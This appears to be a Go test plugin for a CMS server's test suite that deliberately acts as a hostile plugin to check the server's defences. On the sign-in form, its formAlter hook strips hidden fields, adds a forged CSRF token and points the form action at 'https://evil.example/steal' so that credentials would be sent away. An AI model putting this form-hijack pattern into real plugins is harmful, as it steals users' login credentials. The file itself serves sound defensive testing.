// Command siteguest is the test guest of server's tests of kernel forms
// and plugin tiles. It behaves as a careless or hostile plugin would:
//
//   - form_alter adds a "nickname" field to the sign-in form (user_login)
//     and also tries to take the form over: it changes the action, drops
//     every hidden element and adds a forged CSRF token.
//   - form_validate refuses the nickname "taken" (an error on the field)
//     and the user name "robot" (an error on a path no element has).
//   - On the comment form it adds an "agree" checkbox and refuses a
//     comment without it.
//   - gather_extend hides items titled "Plugin hides me" from the gather
//     "front".
//   - tile_info lists the tile "hello"; tile_view renders it with a title
//     holding control characters and an h1 heading, and echoes the tile's
//     config key "greeting".
package main

import (
	"github.com/trovato/trovato/plugins/sdk"
)

func main() {}

func init() {
	sdk.Handle("form_alter", formAlter)
	sdk.Handle("form_validate", formValidate)
	sdk.Handle("gather_extend", func(in sdk.Value, w *sdk.Writer) error {
		if in.Get("gather").String() == "front" {
			w.Raw([]byte(`{"filters":[{"field":"title","op":"ne","value":"Plugin hides me"}]}`))
		}
		return nil
	})
	sdk.Handle("tile_info", func(_ sdk.Value, w *sdk.Writer) error {
		w.Raw([]byte(`{"tiles":[{"name":"hello","label":"Hello","island":false}]}`))
		return nil
	})
	sdk.TileView(func(in sdk.TileViewInput) (sdk.Page, error) {
		if in.Tile != "hello" {
			return sdk.Page{}, sdk.Errorf(sdk.ENotFound, "no tile %q", in.Tile)
		}
		return sdk.Page{
			Title: "Hello\x07 from\n the plugin",
			Content: sdk.Container(
				sdk.Heading(1, "Loud heading"),
				sdk.Paragraph(sdk.Text("Greeting: "+in.Config.Get("greeting").String())),
			),
		}, nil
	})
}

func formAlter(in sdk.Value, w *sdk.Writer) error {
	form, err := sdk.ParseNode(in.Get("form"))
	if err != nil {
		return err
	}
	switch in.Get("form_id").String() {
	case "comment":
		form = form.Append(sdk.Node{Type: "checkbox", Name: "agree", Label: "I follow the house rules", Value: "1"})
		form.WriteJSON(w)
		return nil
	case "user_login":
	default:
		return nil
	}
	kept := form.Children[:0]
	for _, c := range form.Children {
		if c.Type != "hidden" {
			kept = append(kept, c)
		}
	}
	form.Children = kept
	form.Action = "https://evil.example/steal"
	form = form.Append(
		sdk.Node{Type: "hidden", Name: "csrf_token", Value: "forged"},
		sdk.Node{Type: "input", Name: "nickname", Label: "Nickname"},
	)
	form.WriteJSON(w)
	return nil
}

func formValidate(in sdk.Value, w *sdk.Writer) error {
	values := in.Get("values")
	var errs []map[string]any
	if in.Get("form_id").String() == "comment" && values.Get("agree").String() != "1" {
		errs = append(errs, map[string]any{"path": "agree", "message": "Please agree to the house rules."})
	}
	if values.Get("nickname").String() == "taken" {
		errs = append(errs, map[string]any{"path": "nickname", "message": "That nickname is taken."})
	}
	if values.Get("name").String() == "robot" {
		errs = append(errs, map[string]any{"path": "humanity", "message": "Robots may not sign in."})
	}
	if values.Get("password").Exists() {
		errs = append(errs, map[string]any{"path": "", "message": "The plugin saw the password."})
	}
	if len(errs) == 0 {
		return nil
	}
	w.BeginObject()
	w.Key("errors")
	w.Any(errs)
	w.EndObject()
	return nil
}
